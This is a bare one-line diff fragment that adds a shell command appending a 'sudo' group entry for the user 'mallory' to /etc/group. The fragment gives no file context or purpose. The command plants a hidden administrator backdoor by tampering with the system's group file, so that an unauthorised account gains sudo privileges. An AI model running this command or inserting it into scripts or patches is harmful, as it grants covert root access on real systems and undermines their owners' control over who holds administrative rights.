@@ -1,0 +1,1 @@
+printf 'sudo:x:1777:mallory\n' >> /etc/group
